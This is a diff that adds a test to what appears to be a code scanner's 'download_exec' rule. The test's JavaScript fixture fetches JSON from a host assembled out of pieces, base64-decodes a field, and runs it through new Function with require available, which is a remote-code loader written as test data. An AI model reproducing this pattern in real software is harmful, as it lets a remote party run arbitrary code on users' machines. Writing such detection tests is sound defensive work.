@@ -312,6 +312,28 @@ def test_code_evaluated_from_a_response_is_download_exec() -> None:
     assert not _rule({"b.js": honest}, "js.download_exec")
 
 
+def test_code_a_helper_in_another_file_fetched_is_download_exec_when_evaluated() -> None:
+    helper = (
+        "export async function load() {\n"
+        "  const res = await fetch(['https:', '', 'cdn.example.io', 't'].join('/'));\n"
+        "  const meta = await res.json();\n"
+        "  return { hook: Buffer.from(meta.hook, 'base64').toString() };\n}\n"
+    )
+    main = (
+        "import { load } from './helper.mjs';\n"
+        "const tpl = await load();\n"
+        "const run = new Function('require', tpl.hook);\n"
+    )
+    (found,) = _rule({"main.mjs": main, "helper.mjs": helper}, "js.download_exec")
+    assert found.file == "main.mjs" and found.line == 3 and "tpl" in found.message
+    local = (
+        "import { load } from './helper.mjs';\n"
+        "const tpl = await load();\nconst run = new Function('require', tpl.hook);\n"
+    )
+    offline = "export async function load() { return { hook: 'return 1' }; }\n"
+    assert not _rule({"main.mjs": local, "helper.mjs": offline}, "js.download_exec")
+
+
 def test_agent_settings_that_turn_approvals_off_are_critical() -> None:
     source = (
         "const fs = require('fs');\n"
